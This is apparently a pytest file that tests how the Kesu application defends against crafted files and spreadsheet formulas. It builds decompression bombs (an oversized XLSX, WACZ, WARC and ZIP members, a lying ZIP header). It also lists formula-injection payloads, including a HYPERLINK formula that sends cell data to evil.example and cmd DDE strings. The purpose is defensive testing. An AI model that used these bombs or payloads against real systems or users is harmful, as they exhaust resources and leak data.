"""Issue 18, findings 6 and 8: crafted files and spreadsheet formulas.

Finding 6: a tiny XLSX declaring a huge sheet, and a WACZ (or bundle, or WARC) holding
a member that inflates to gigabytes, are refused quickly, in bounded memory, with one
line naming what was wrong, and nothing in the database changes. The hostile files are
made by the real zipfile and openpyxl; memory is measured with tracemalloc (its peak
counts every bytes object zlib and openpyxl make).

Finding 8: names Kesu learns from RDAP (chosen by whoever registered them) come out of
every CSV and XLSX Kesu writes as text, never as formulas.
"""

import copy
import csv
import gzip
import io
import ipaddress
import json
import re
import struct
import time
import tracemalloc
import zipfile
import zlib
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sites_servers import DnsServer, RdapServer, WhoisServer

from kesu.audit.models import AuditEntry
from kesu.capture.record import Capture, Exchange
from kesu.evidence import bundle, services
from kesu.evidence.models import EvidenceBundle
from kesu.lib.netsettings import parse_bootstrap_file
from kesu.sites import exporter
from kesu.sites.models import Contact, Organisation, Site, TakedownRequest
from kesu.sites.resolution import resolve_site

MB = 1 << 20
ZEROS = bytes(16 * MB)


def _rows() -> dict:
    models = (Site, Organisation, Contact, TakedownRequest, EvidenceBundle, AuditEntry)
    return {model.__name__: model.objects.count() for model in models}


def _measured(run):
    """(result, seconds, peak bytes allocated while it ran)."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        result = run()
    finally:
        seconds = time.monotonic() - started
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return result, seconds, peak


def _assert_refused(measured, reason: str, *, peak_mb: int) -> None:
    """The command printed nothing but one error line matching ``reason``, quickly and in bounded memory."""
    (code, out, err), seconds, peak = measured
    assert (code, out) == (1, "") and re.fullmatch(f"kesu: error: {reason}\n", err), err
    assert seconds < 10 and peak < peak_mb * MB, (seconds, peak)


# -- finding 6: the XLSX bomb


def xlsx_bomb(dimension: str, far_cell: str) -> bytes:
    """A workbook openpyxl writes (a domain header, one site), its sheet then claiming ``dimension``
    and holding one more cell at ``far_cell``: three cells in all."""
    book = Workbook()
    book.active.append(["domain"])
    book.active.append(["evil.example"])
    plain = io.BytesIO()
    book.save(plain)
    source, out = zipfile.ZipFile(plain), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as crafted:
        for info in source.infolist():
            if info.filename.startswith(("docProps/", "xl/theme/")):
                continue
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                row = re.sub(r"\D", "", far_cell)
                far = f'<row r="{row}"><c r="{far_cell}" t="inlineStr"><is><t>x</t></is></c></row>'
                data = re.sub(rb'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"'.encode(), data)
                data = data.replace(b"</sheetData>", far.encode() + b"</sheetData>")
            crafted.writestr(info.filename, data)
    return out.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize(
    "dimension, far_cell, reason",
    [
        ("A1:GR500000", "GR500000",
         "sheet 'Sheet': declared A1:GR500000 (100,000,000 cells) but holds 3 cells; at most 5,000,000 are read"),
        ("A1:B2", "GR500000",  # the dimension hides it: the cells themselves are counted
         "sheet 'Sheet': 3 cells spread over 500,000 rows and 200 columns (100,000,000 cells); "
         "at most 5,000,000 are read"),
    ],
)  # fmt: skip
def test_finding6_an_xlsx_claiming_500000_rows_by_200_columns_is_refused_fast_in_one_line(
    cli, tmp_path, dimension, far_cell, reason
):
    Site.objects.create(domain="kept.com")
    path = tmp_path / "sites.xlsx"
    path.write_bytes(xlsx_bomb(dimension, far_cell))
    assert path.stat().st_size < 3000
    before = _rows()
    for dry_run in (["--dry-run"], []):
        (code, out, err), seconds, peak = _measured(lambda: cli("site", "import", str(path), *dry_run))  # noqa: B023
        assert (code, out, err) == (1, "", f"kesu: error: {reason}\n")
        assert seconds < 10 and peak < 50 * MB, (seconds, peak)  # today's main: 35-74 s and 1 GB
    assert _rows() == before


@pytest.mark.django_db
def test_finding6_an_xlsx_part_packed_like_a_bomb_is_refused_before_it_is_unpacked(cli, tmp_path):
    path = tmp_path / "sites.xlsx"
    source = zipfile.ZipFile(io.BytesIO(xlsx_bomb("A1:A2", "A2")))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as crafted:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":  # 40 MB of blanks between two tags: XML allows it
                head, tail = data.split(b"<sheetData>")
                with crafted.open("xl/worksheets/sheet1.xml", "w") as sheet:
                    sheet.write(head + b"<sheetData>")
                    for _ in range(40):
                        sheet.write(b" " * MB)
                    sheet.write(tail)
                continue
            crafted.writestr(info, data)
    before = _rows()
    _assert_refused(
        _measured(lambda: cli("site", "import", str(path), "--dry-run")),
        r"the workbook: 'xl/worksheets/sheet1.xml' unpacks to 41,94\d,\d+ bytes from \d+,\d+ "
        r"\(ratio 1,0\d\d:1\), packed tighter than 200:1 \(a decompression bomb\)",
        peak_mb=20,
    )
    assert _rows() == before


# -- finding 6: the WACZ bomb


def tiny_capture() -> Capture:
    start = datetime(2025, 3, 4, 5, 6, 7, tzinfo=UTC)
    page = Exchange(
        id="r1",
        url="https://example.org/",
        status=200,
        status_text="OK",
        response_headers=[("Content-Type", "text/html")],
        mime_type="text/html",
        body=b"<!doctype html><title>x</title><p>hello",
        complete=True,
        resource_type="Document",
        remote_ip="192.0.2.1",
        started_at=start,
        finished_at=start + timedelta(seconds=1),
    )
    return Capture(url="https://example.org/", started_at=start, finished_at=start + timedelta(seconds=2),
                   final_url="https://example.org/", title="x", exchanges=[page], dom="<p>hello</p>")  # fmt: skip


@pytest.fixture
def honest(db, tmp_path):
    files, _errors = services.seal_capture(
        tiny_capture(), bundle_id="test", case=None, reason="test", collector="test", withhold_media=False
    )
    assert services.verify_files(files).ok
    return files


def write_zeros(archive: zipfile.ZipFile, name: str, size: int) -> None:
    """A member of ``size`` zero bytes, streamed through zipfile's own deflate."""
    info = zipfile.ZipInfo(name, (2025, 3, 4, 5, 6, 8))
    info.compress_type = zipfile.ZIP_DEFLATED
    with archive.open(info, "w", force_zip64=size >= zipfile.ZIP64_LIMIT) as member:
        view = memoryview(ZEROS)
        for start in range(0, size, len(ZEROS)):
            member.write(view[: min(len(ZEROS), size - start)])


def wacz_with(honest_wacz: bytes, warc_size: int) -> bytes:
    """The honest WACZ with its WARC replaced by ``warc_size`` zero bytes, deflated."""
    source, out = zipfile.ZipFile(io.BytesIO(honest_wacz)), io.BytesIO()
    with zipfile.ZipFile(out, "w") as crafted:
        for info in source.infolist():
            if info.filename.startswith("archive/"):
                write_zeros(crafted, info.filename, warc_size)
            else:
                crafted.writestr(info, source.read(info))
    return out.getvalue()


def verify_directory(cli, files: dict, directory: Path):
    bundle.to_directory(files, directory)
    before = _rows()
    measured = _measured(lambda: cli("evidence", "verify", str(directory)))
    assert _rows() == before
    return measured


def test_finding6_a_wacz_member_over_the_limit_is_refused_by_evidence_verify_in_one_line(
    honest, cli, settings, tmp_path
):
    settings.KESU_EVIDENCE_MAX_MB = 16
    bomb = wacz_with(honest["capture.wacz"], 24 * MB)
    assert len(bomb) < 100_000
    _assert_refused(
        verify_directory(cli, {**honest, "capture.wacz": bomb}, tmp_path / "b"),
        r"capture.wacz: 'archive/capture.warc.gz' unpacks to 25,165,824 bytes from \d+,\d+ "
        r"\(ratio 1,0\d\d:1\), more than the 16,777,216-byte limit \(set by KESU_EVIDENCE_MAX_MB\)",
        peak_mb=10,
    )


def test_finding6_a_wacz_member_under_the_limit_but_packed_like_a_bomb_is_refused(honest, cli, tmp_path):
    bomb = wacz_with(honest["capture.wacz"], 8 * MB)
    (code, out, err), seconds, peak = verify_directory(cli, {**honest, "capture.wacz": bomb}, tmp_path / "b")
    assert (code, out) == (1, "") and err.count("\n") == 1
    assert err.startswith("kesu: error: capture.wacz: 'archive/capture.warc.gz' unpacks to 8,388,608 bytes")
    assert err.endswith("packed tighter than 200:1 (a decompression bomb)\n")


def _lie_about_size(data: bytes, name: str, size: int) -> bytes:
    """Make the local header and directory record of ``name`` say ``size`` bytes, with the CRC of that
    many zeros, as a crafted file would: zipfile then reads ``size`` bytes and finds the CRC right."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    fields = zlib.crc32(bytes(size)).to_bytes(4, "little"), size.to_bytes(4, "little")
    crafted, local, central = bytearray(data), archive.getinfo(name).header_offset, archive.start_dir
    while data[central + 46 : central + 46 + len(name)] != name.encode():
        central += 46 + sum(struct.unpack("<3H", data[central + 28 : central + 34]))
    crafted[local + 14 : local + 18], crafted[local + 22 : local + 26] = fields
    crafted[central + 16 : central + 20], crafted[central + 24 : central + 28] = fields
    return bytes(crafted)


def test_finding6_a_wacz_whose_header_lies_about_a_member_is_not_inflated_past_it(honest, cli, tmp_path):
    bomb = _lie_about_size(wacz_with(honest["capture.wacz"], 256 * MB), "archive/capture.warc.gz", MB)
    assert zipfile.ZipFile(io.BytesIO(bomb)).read("archive/capture.warc.gz") == bytes(MB)  # zipfile believes it
    (code, out, err), seconds, peak = verify_directory(cli, {**honest, "capture.wacz": bomb}, tmp_path / "b")
    assert code == 1 and "Traceback" not in err
    assert (
        "FAIL WACZ: archive/capture.warc.gz: deflate stream unpacks to more than the 1,048,576 bytes the directory says"
    ) in out
    assert "FAIL wacz validate: not run: the WACZ check failed" in out
    assert seconds < 20 and peak < 40 * MB, (seconds, peak)  # today's main inflates all 256 MB at once


def test_finding6_a_bundle_zip_warc_or_file_over_the_limit_is_refused_the_same_way(honest, cli, settings, tmp_path):
    settings.KESU_EVIDENCE_MAX_MB = 16
    limit = r"more than the 16,777,216-byte limit \(set by KESU_EVIDENCE_MAX_MB\)"
    archive = tmp_path / "bundle.zip"
    with zipfile.ZipFile(archive, "w") as crafted:
        for name, data in honest.items():
            if name == "capture.warc.gz":
                write_zeros(crafted, name, 24 * MB)
            else:
                crafted.writestr(name, data)
    _assert_refused(
        _measured(lambda: cli("evidence", "verify", str(archive))),
        rf"the bundle archive: 'capture.warc.gz' unpacks to 25,165,824 bytes from \d+,\d+ \(ratio 1,0\d\d:1\), {limit}",
        peak_mb=10,
    )
    warc_bomb = gzip.compress(bytes(24 * MB), compresslevel=1)
    _assert_refused(
        verify_directory(cli, {**honest, "capture.warc.gz": warc_bomb}, tmp_path / "w"),
        r"capture.warc.gz: the record at offset 0 unpacks to more than 16,777,216 bytes "
        r"\(set by KESU_EVIDENCE_MAX_MB\)",
        peak_mb=40,
    )
    bundle.to_directory(honest, tmp_path / "f")
    with open(tmp_path / "f" / "dom.html", "r+b") as page:
        page.truncate(17 * MB)  # sparse: nothing is written
    _assert_refused(
        _measured(lambda: cli("evidence", "verify", str(tmp_path / "f"))),
        rf"dom.html holds 17,825,792 bytes, {limit}",
        peak_mb=10,
    )


@pytest.mark.slow
def test_finding6_the_3_gb_wacz_member_of_the_finding_is_refused_under_the_default_limit(honest, cli, tmp_path):
    bomb = wacz_with(honest["capture.wacz"], 3 << 30)  # about 20 s: zipfile deflates 3 GB of zeros
    assert len(bomb) < 4 * MB
    (code, out, err), seconds, peak = verify_directory(cli, {**honest, "capture.wacz": bomb}, tmp_path / "b")
    assert (code, out) == (1, "") and err.startswith(
        "kesu: error: capture.wacz: 'archive/capture.warc.gz' unpacks to 3,221,225,472 bytes from"
    ), err
    assert err.endswith("(set by KESU_EVIDENCE_MAX_MB)\n") and seconds < 10 and peak < 10 * MB


# -- finding 8: formulas in what Kesu writes

HOSTILE = {
    "198.51.100.61": '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "198.51.100.62": "@SUM(1+1)*cmd|' /C calc'!A0",
    "198.51.100.63": "+cmd|' /C notepad'!A0",
    "198.51.100.64": "-1+2",
    "198.51.100.65": "＝1+2",
}


def _origin(address: str) -> str:
    return ".".join(reversed(address.split("."))) + ".origin.asn.cymru.com"


def _zone() -> dict:
    zone = {}
    for number, address in enumerate(HOSTILE, 1):
        zone[f"hostile-{number}.com"] = {"A": [address]}
        zone[_origin(address)] = {"TXT": [f"6460{number} | 198.51.100.0/24 | NL | ripencc | 2019-06-01"]}
        zone[f"as6460{number}.asn.cymru.com"] = {"TXT": [f"6460{number} | NL | ripencc | 2019-05-20 | AS{number}, NL"]}
    return zone


def _rdap(name: str) -> tuple:
    """What a RIR's RDAP server says about the network: the registrant's name is whatever they typed."""
    entity = {"handle": "ORG-X", "roles": ["registrant"], "objectClassName": "entity",
              "vcardArray": ["vcard", [["version", {}, "text", "4.0"], ["fn", {}, "text", name],
                                       ["kind", {}, "text", "org"]]]}  # fmt: skip
    answer = {"objectClassName": "ip network", "handle": "X", "country": "NL", "entities": [entity],
              "rdapConformance": ["rdap_level_0"]}  # fmt: skip
    return ("garbage", json.dumps(answer).encode(), "application/rdap+json")


@pytest.fixture
def hostile_hosts(settings, tmp_path, db):
    """Sites resolved against RDAP/DNS servers on loopback whose hosts are named to run as formulas,
    with enough settled requests to reach the public league table."""
    routes = {f"/ripe/ip/{address}": _rdap(name) for address, name in HOSTILE.items()}
    with DnsServer(copy.deepcopy(_zone())) as dns, RdapServer(routes) as rdap, WhoisServer({}) as whois:
        (tmp_path / "bootstrap.json").write_text(json.dumps({"dns": {"com": f"{rdap.base}/com/"},
                                                             "ip": {"ripencc": f"{rdap.base}/ripe/"}}))  # fmt: skip
        settings.KESU_RDAP_BOOTSTRAP_FILE = parse_bootstrap_file([str(tmp_path / "bootstrap.json")], "test")
        settings.KESU_DNS_SERVERS = [dns.address]
        settings.KESU_DNS_TIMEOUT = settings.KESU_RESOLVE_SECONDS = 0.5
        settings.KESU_WHOIS_SERVERS = {"com": whois.address}
        settings.KESU_ALLOW_LOOPBACK = True
        settings.KESU_CAPTURE_ALLOW = []
        settings.KESU_CAPTURE_DENY = [ipaddress.ip_network("0.0.0.0/0"), ipaddress.ip_network("::/0")]
        for number in range(1, len(HOSTILE) + 1):
            resolve_site(Site.objects.create(domain=f"hostile-{number}.com"))
    sites = list(Site.objects.select_related("host").filter(domain__startswith="hostile-"))
    sent = datetime(2024, 7, 1, tzinfo=UTC)
    for site in sites:
        for i in range(10):
            TakedownRequest.objects.create(
                site=site, role="host", recipient=site.host, case_type="ncii", sent_at=sent, outcome="deleted",
                resolved_at=sent + timedelta(days=3), source="staff", reference=f"{site.domain}:{i}",
            )  # fmt: skip
    assert sorted(site.host.name for site in sites) == sorted(HOSTILE.values())
    return sites


def _csv_cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _assert_neutralised(rows: list[list], where: str) -> None:
    cells = [cell for row in rows for cell in row]
    for name in HOSTILE.values():
        assert "'" + name in cells, (where, name)
        assert name not in cells, (where, name)
    dangerous = [c for c in cells if isinstance(c, str) and c[:1] in "=+-@\t\r＝＋－＠" and c.strip("-+.0123456789")]
    assert not dangerous, (where, dangerous)


def test_finding8_host_names_from_rdap_are_text_in_every_csv_and_xlsx_kesu_writes(hostile_hosts, clients, cli,
                                                                                 tmp_path):  # fmt: skip
    client = clients["on_case"]
    for url in ("/reports/compliance/?by=host&format=csv", "/reports/public/?format=csv"):
        rows = _csv_cells(client.get(url).content)
        _assert_neutralised(rows, url)
        assert {row[2] for row in rows[1:]} == {"10"}  # requests: numbers stay numbers
    code, _out, err = cli("report", "public", "--out", str(tmp_path / "public.csv"))
    assert code == 0, err
    _assert_neutralised(_csv_cells((tmp_path / "public.csv").read_bytes()), "kesu report public")
    for requests in (False, True):
        _assert_neutralised(_csv_cells(exporter.export("csv", "en", requests=requests)), f"csv {requests}")
        book = load_workbook(io.BytesIO(exporter.export("xlsx", "en", requests=requests)))
        cells = [cell for row in book.active.iter_rows() for cell in row]
        assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
        _assert_neutralised([[cell.value for cell in cells]], f"xlsx {requests}")
    for fmt in ("csv", "xlsx"):
        response = client.get("/sites/export/", {"format": fmt, "language": "ja", "what": "sites"})
        assert response.status_code == 200
        if fmt == "csv":
            _assert_neutralised(_csv_cells(response.content), "site export page, csv")
        else:
            book = load_workbook(io.BytesIO(response.content))
            _assert_neutralised([[c.value for r in book.active.iter_rows() for c in r]], "site export page, xlsx")


def test_finding8_numbers_stay_numbers_and_only_text_is_neutralised():
    from kesu.lib.spreadsheet import safe_cell

    assert [safe_cell(v) for v in (-3, -2.5, 0, "-3", "12.5", "+81")] == [-3, -2.5, 0, "-3", "12.5", "+81"]
    assert [safe_cell(v) for v in ("-1+2", "=1", "@x", "\r=1", "＠x", "a=b", None)] == [
        "'-1+2", "'=1", "'@x", "'\r=1", "'＠x", "a=b", "",
    ]  # fmt: skip
